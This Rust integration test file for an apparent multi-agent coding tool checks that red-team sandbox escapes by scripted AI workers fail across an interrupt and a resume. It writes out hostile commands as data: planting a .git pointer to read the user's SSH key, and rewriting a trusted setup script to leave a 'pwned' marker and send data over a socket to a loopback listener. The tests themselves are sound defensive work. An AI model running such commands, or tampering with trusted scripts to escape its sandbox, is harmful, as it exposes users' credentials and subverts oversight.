//! Issue 28's escapes across an interrupt and a resume, each reproduced as the red team
//! did it, in both worktree modes: a worker plants a `.git` pointer whose "git dir"
//! names the user's key as its HEAD ref, then the run is interrupted and resumed; a
//! worker rewrites the trusted setup script, then the run is interrupted and resumed; a
//! worker's rewrite of the setup script is approved and merged, and the trees the result
//! is checked in (the result's, the culprit search's, a fixer's) never run it — and a
//! tracked file the base's setup rewrote does not stop the result's check.
//! (The agent socket is `sandbox_services`'s, the check's network `check`'s.)
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

use std::net::TcpListener;
use std::time::Duration;

use pretty_assertions::assert_eq;
use serde_json::json;

use grove::worktree::WorktreeMode;

use crate::suite::overlay::overlay_or_skip;
use crate::suite::sandbox::{SECRET, sandbox_or_skip};
use crate::support::fake_server::{FakeServer, RecordedRequest, Reply, Turn};
use crate::support::git_fixture::GitFixture;
use crate::support::grove::{Grove, stderr, wait_in_worktrees};
use crate::support::requests::{Who, who};
use crate::support::scripted_run::{answered, first_user_text, lead_reply, reviewer_reply, usage};

/// Whether `mode` can run here: the sandbox always, copy-on-write trees where allowed.
pub(crate) async fn mode_or_skip(test: &str, fixture: &GitFixture, mode: WorktreeMode) -> bool {
    if !sandbox_or_skip(test) {
        return false;
    }
    mode != WorktreeMode::Overlay
        || overlay_or_skip(test, fixture.open().await.worktrees_home()).await
}

/// A worker that runs `first` in its first turn, and once resumed (its pending call
/// answered as interrupted) runs `after`, then ends.
fn worker(request: &RecordedRequest, first: &str, after: &str) -> Reply {
    let results = request.tool_results();
    let turn = match results.last() {
        None => Turn::text("Starting.").tool_use("plant", "bash", json!({ "command": first })),
        Some((id, _)) if id == "plant" => {
            Turn::text("Again.").tool_use("probe", "bash", json!({ "command": after }))
        }
        Some(_) => Turn::text("Done."),
    };
    usage(turn).into()
}

/// Runs `grove run` until the worker's first command wrote `flag`, interrupts it with
/// Ctrl-C (SIGINT) while that command still runs, then `grove resume`s the run: the
/// resume's output.
async fn interrupted_then_resumed(
    fixture: &GitFixture,
    server: &FakeServer,
    mode: WorktreeMode,
    setup: Option<&str>,
) -> std::process::Output {
    let mut config = format!("[worktree]\nmode = \"{mode}\"\n");
    if let Some(setup) = setup {
        config.push_str(&format!("setup = {setup:?}\nper_worker = true\n"));
    }
    fixture.write(".grove/config.toml", config);
    fixture.commit_all("grove's configuration");
    let grove = Grove::in_repo(fixture).with_server(server);
    if setup.is_some() {
        let trusted = grove.grove_async(["trust"]).await;
        assert_eq!(trusted.status.code(), Some(0), "{}", stderr(&trusted));
    }
    let mut child = grove.spawn(["run", "--jobs", "1", "tidy the project"]);
    wait_in_worktrees(fixture, "flag", b"planted\n").await;
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(i32::try_from(child.id().unwrap()).unwrap()),
        nix::sys::signal::Signal::SIGINT,
    )
    .unwrap();
    let stopped = tokio::time::timeout(Duration::from_secs(60), child.wait())
        .await
        .expect("grove stops on Ctrl-C")
        .unwrap();
    assert_eq!(stopped.code(), Some(130), "interrupted: exit 130");
    let runs = grove.grove_async(["runs", "--json"]).await;
    let runs: serde_json::Value = serde_json::from_slice(&runs.stdout).unwrap();
    let run_id = runs[0]["run_id"].as_str().unwrap().to_owned();
    tokio::time::timeout(
        Duration::from_secs(120),
        grove.grove_async(["resume", "--json", &run_id]),
    )
    .await
    .expect("the resumed run ends")
}

/// The output of the worker's command after the resume.
fn probe_output(server: &FakeServer) -> String {
    server
        .requests()
        .iter()
        .filter(|request| who(request) == Who::Worker)
        .flat_map(|request| request.tool_results())
        .filter(|(id, _)| id == "probe")
        .map(|(_, text)| text)
        .next()
        .expect("the resumed worker ran its probe")
}

async fn a_planted_git_pointer_reads_no_file_after_a_resume(mode: WorktreeMode) {
    let fixture = GitFixture::with_files(&[("README", "the project\n")]);
    if !mode_or_skip(
        "a_planted_git_pointer_reads_no_file_after_a_resume",
        &fixture,
        mode,
    )
    .await
    {
        return;
    }
    let home = fixture.home();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_grove"), SECRET).unwrap();
    // The red team's pointer: a "git dir" in the tree whose common dir is $HOME and whose
    // HEAD ref is the key; the command then sleeps so that the interrupt comes before
    // grove can put the pointer back.
    // The view shows `.git` read-only, so the write is refused; the test holds even
    // where it would not be.
    let plant = "mkdir -p gd && echo \"$HOME\" > gd/commondir && \
                 echo 'ref: .ssh/id_grove' > gd/HEAD && \
                 { printf 'gitdir: gd\\n' > .git; } 2>/dev/null; \
                 echo planted > flag && sleep 60";
    let probe = "echo HOME=$HOME; cat ~/.ssh/id_grove; cat .git";
    let server = FakeServer::with_responder(move |request| match who(request) {
        Who::Lead => lead_reply(request, &[("Tidy the README.", None)]),
        Who::Worker => worker(request, plant, probe),
        Who::Reviewer => reviewer_reply(request),
    })
    .await;
    let resumed = interrupted_then_resumed(&fixture, &server, mode, None).await;

    server.assert_no_violations();
    assert_eq!(resumed.status.code(), Some(0), "{}", stderr(&resumed));
    let output = probe_output(&server);
    assert!(
        !output.contains(SECRET) && output.contains("No such file or directory"),
        "after the resume the planted pointer grants nothing: the key is unreadable \
         ({mode}): {output}"
    );
    assert!(
        output.contains("gitdir: ") && !output.contains("gitdir: gd"),
        "the registered pointer was written back before the resumed command ran \
         ({mode}): {output}"
    );
    assert!(
        !server
            .requests()
            .iter()
            .any(|request| request.raw_body.contains(SECRET)),
        "the key reached no model ({mode})"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_planted_git_pointer_reads_no_file_after_a_resume_in_a_git_worktree() {
    a_planted_git_pointer_reads_no_file_after_a_resume(WorktreeMode::Git).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_planted_git_pointer_reads_no_file_after_a_resume_in_a_copy_on_write_tree() {
    a_planted_git_pointer_reads_no_file_after_a_resume(WorktreeMode::Overlay).await;
}

async fn a_rewritten_setup_never_runs_on_resume(mode: WorktreeMode) {
    let fixture = GitFixture::with_files(&[
        ("README", "the project\n"),
        ("scripts/setup.sh", "echo setting up\n"),
    ]);
    if !mode_or_skip("a_rewritten_setup_never_runs_on_resume", &fixture, mode).await {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // The worker turns the trusted script into one that marks the tree and sends what it
    // reads out, then sleeps so that the interrupt comes while its tree holds the change.
    let plant = format!(
        "printf '%s\\n' 'echo pwned > pwned' \"python3 -c \\\"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')\\\"\" \
         > scripts/setup.sh && echo planted > flag && sleep 60"
    );
    let server = FakeServer::with_responder(move |request| match who(request) {
        Who::Lead => lead_reply(request, &[("Tidy the setup.", None)]),
        Who::Worker => worker(
            request,
            &plant,
            "cat scripts/setup.sh; test -e pwned && echo MARKER-PRESENT || echo MARKER-ABSENT",
        ),
        Who::Reviewer => reviewer_reply(request),
    })
    .await;
    let resumed =
        interrupted_then_resumed(&fixture, &server, mode, Some("sh scripts/setup.sh")).await;

    server.assert_no_violations();
    let stolen = std::iter::from_fn(|| listener.accept().ok()).count();
    let probe = probe_output(&server);
    assert_eq!(
        (stolen, probe.contains("MARKER-ABSENT")),
        (0, true),
        "the rewritten setup never ran on resume, with the network or without: nothing \
         connected and its marker is absent from the tree ({mode}); the worker saw: \
         {probe}\n{}",
        stderr(&resumed)
    );
    assert!(
        probe.contains("python3 -c") && probe.contains("echo pwned > pwned"),
        "the worker's rewrite was still in its tree when the run resumed, so the test \
         can fail ({mode}): {probe}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_rewritten_setup_never_runs_on_resume_in_a_git_worktree() {
    a_rewritten_setup_never_runs_on_resume(WorktreeMode::Git).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_rewritten_setup_never_runs_on_resume_in_a_copy_on_write_tree() {
    a_rewritten_setup_never_runs_on_resume(WorktreeMode::Overlay).await;
}

/// The original setup script: it leaves `setup-ran`, which the check requires.
const PRISTINE_SETUP: &str = "echo set up > setup-ran\n";

/// A worker's setup script that marks the tree and sends what it reads to `port` on the
/// host's loopback.
fn rewritten_setup(port: u16) -> String {
    format!(
        "echo pwned > pwned\npython3 -c \"import socket; socket.create_connection(('127.0.0.1', \
         {port}), timeout=5).sendall(b'stolen')\"\n"
    )
}

/// A worker's single edit, taken from its brief: `WRITE <path> <content…>`.
fn write_from_brief(request: &RecordedRequest) -> Reply {
    let brief = first_user_text(request);
    let (path, content) = brief
        .split_once("WRITE ")
        .and_then(|(_, rest)| rest.split_once(' '))
        .expect("a brief says what to write");
    usage(Turn::text("Writing.").tool_use(
        "worker_call_1",
        "write_file",
        json!({ "path": path, "content": content }),
    ))
    .into()
}

async fn a_merged_setup_rewrite_never_runs_in_a_check_tree(mode: WorktreeMode) {
    let check = "! grep -l BROKEN *.txt && test -f setup-ran && test ! -e pwned";
    let fixture = GitFixture::with_files(&[
        ("base.txt", "ok\n"),
        (".gitignore", "setup-ran\npwned\n"),
        ("scripts/setup.sh", PRISTINE_SETUP),
        (
            ".grove/config.toml",
            &format!(
                "[worktree]\nmode = \"{mode}\"\nsetup = \"sh scripts/setup.sh\"\n\n\
                 [check]\ncommand = '{check}'\nfix_attempts = 1\n"
            ),
        ),
    ]);
    if !mode_or_skip(
        "a_merged_setup_rewrite_never_runs_in_a_check_tree",
        &fixture,
        mode,
    )
    .await
    {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // S1 rewrites the setup script (its reviewer approves, so it is merged); S2 breaks the
    // check, so that the result is red, its culprit is searched for on results rebuilt
    // with S1's script (S3 makes them trees no subtask checked), and a fixer starts from
    // the result.
    let s1 = format!("S1: WRITE scripts/setup.sh {}", rewritten_setup(port));
    let briefs = [
        (s1.clone(), None),
        ("S2: WRITE two.txt BROKEN".to_owned(), None),
        ("S3: WRITE three.txt ok".to_owned(), None),
    ];
    let server = FakeServer::with_responder(move |request: &RecordedRequest| match who(request) {
        Who::Lead => {
            let briefs: Vec<(&str, Option<&str>)> = briefs
                .iter()
                .map(|(brief, mode)| (brief.as_str(), *mode))
                .collect();
            lead_reply(request, &briefs)
        }
        Who::Worker if answered(request) => usage(Turn::text("WORKER-FINAL: done.")).into(),
        Who::Worker if !first_user_text(request).starts_with("# Fix") => write_from_brief(request),
        Who::Worker => usage(Turn::text("Fixing.").tool_use(
            "worker_call_1",
            "write_file",
            json!({ "path": "two.txt", "content": "ok\n" }),
        ))
        .into(),
        Who::Reviewer => reviewer_reply(request),
    })
    .await;
    let grove = Grove::in_repo(&fixture).with_server(&server);
    let trusted = grove.grove_async(["trust"]).await;
    assert_eq!(trusted.status.code(), Some(0), "{}", stderr(&trusted));

    let output = grove
        .grove_async(["run", "--json", "--jobs", "1", "rewrite and break"])
        .await;

    server.assert_no_violations();
    let stolen = std::iter::from_fn(|| listener.accept().ok()).count();
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
    let runs: Vec<(String, String)> = report["check"]["runs"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default()
        .iter()
        .filter(|run| run["on"].as_str().unwrap_or_default().starts_with("result"))
        .map(|run| {
            let text = |key: &str| run[key].as_str().unwrap_or_default().to_owned();
            (text("on"), text("status"))
        })
        .collect();
    let pair = |on: &str, status: &str| (on.to_owned(), status.to_owned());
    assert_eq!(
        (
            output.status.code(),
            stolen,
            runs,
            report["check"]["culprit"].clone()
        ),
        (
            Some(0),
            0,
            vec![
                pair("result", "failed"),
                pair("result without S1", "failed"),
                pair("result without S2", "passed"),
                pair("result", "passed"),
            ],
            json!({ "subtasks": ["S2"], "found_by": "passes_without" }),
        ),
        "a setup script a worker rewrote (merged) never runs in the result's check tree, \
         the culprit search's rebuilt results or the fixer's tree: the base's script ran \
         in each (`setup-ran`), the rewrite nowhere (no `pwned`, no connection), so only \
         S2 is red ({mode}): {}",
        stderr(&output)
    );
    assert_eq!(
        fixture.read("scripts/setup.sh"),
        rewritten_setup(port).into_bytes(),
        "the rewrite was merged into the user's branch, so the test can fail ({mode})"
    );
    if mode == WorktreeMode::Overlay {
        let err = stderr(&output);
        let setups = |kind: &str| {
            err.lines()
                .filter(|line| line.contains("running the setup command") && line.contains(kind))
                .count()
        };
        assert_eq!(
            (
                setups("once, in the base tree"),
                setups("in the worktree of the")
            ),
            (1, 0),
            "with copy-on-write trees the setup runs once, in the base tree, and every \
             check's tree (the base's, the result's, the culprit search's) is one over it: \
             {err}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_merged_setup_rewrite_never_runs_in_a_check_tree_in_a_git_worktree() {
    a_merged_setup_rewrite_never_runs_in_a_check_tree(WorktreeMode::Git).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_merged_setup_rewrite_never_runs_in_a_check_tree_in_a_copy_on_write_tree() {
    a_merged_setup_rewrite_never_runs_in_a_check_tree(WorktreeMode::Overlay).await;
}

/// With copy-on-write trees the setup ran once in the base tree, rewriting a tracked
/// file (a lock file an install regenerates) that the merged work changed too: the
/// result's check tree, one over the base tree, still shows the merged file. (In git
/// worktrees a subtask commits what its setup rewrote; the check tree's own setup is
/// `prepare`'s unit test.)
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_tracked_file_the_base_setup_rewrote_is_the_merged_one_in_the_result_check() {
    let mode = WorktreeMode::Overlay;
    let check = "test -f setup-ran && test \"$(cat lock.txt)\" = worker";
    let fixture = GitFixture::with_files(&[
        ("base.txt", "ok\n"),
        (".gitignore", "setup-ran\n"),
        ("lock.txt", "base\n"),
        (
            ".grove/config.toml",
            &format!(
                "[worktree]\nmode = \"{mode}\"\n\
                 setup = \"echo regenerated > lock.txt; echo set up > setup-ran\"\n\n\
                 [check]\ncommand = '{check}'\nbase = \"skip\"\nfix_attempts = 0\n"
            ),
        ),
    ]);
    if !mode_or_skip(
        "a_tracked_file_the_base_setup_rewrote_is_the_merged_one_in_the_result_check",
        &fixture,
        mode,
    )
    .await
    {
        return;
    }
    let server = FakeServer::with_responder(move |request: &RecordedRequest| match who(request) {
        // Two subtasks, so that the result is a tree no subtask checked.
        Who::Lead => lead_reply(
            request,
            &[
                ("S1: WRITE lock.txt worker", None),
                ("S2: WRITE two.txt ok", None),
            ],
        ),
        Who::Worker if answered(request) => usage(Turn::text("WORKER-FINAL: done.")).into(),
        Who::Worker => write_from_brief(request),
        Who::Reviewer => reviewer_reply(request),
    })
    .await;
    let grove = Grove::in_repo(&fixture).with_server(&server);
    let trusted = grove.grove_async(["trust"]).await;
    assert_eq!(trusted.status.code(), Some(0), "{}", stderr(&trusted));

    let output = grove.grove_async(["run", "--json", "lock it"]).await;

    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
    let result: Vec<&str> = report["check"]["runs"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default()
        .iter()
        .filter(|run| run["on"] == "result")
        .map(|run| run["status"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(
        (output.status.code(), result),
        (Some(0), vec!["passed"]),
        "the setup rewrote a tracked file the merged work changed too; the result's check \
         still runs, on the merged file and the setup's output: {}",
        stderr(&output)
    );
}
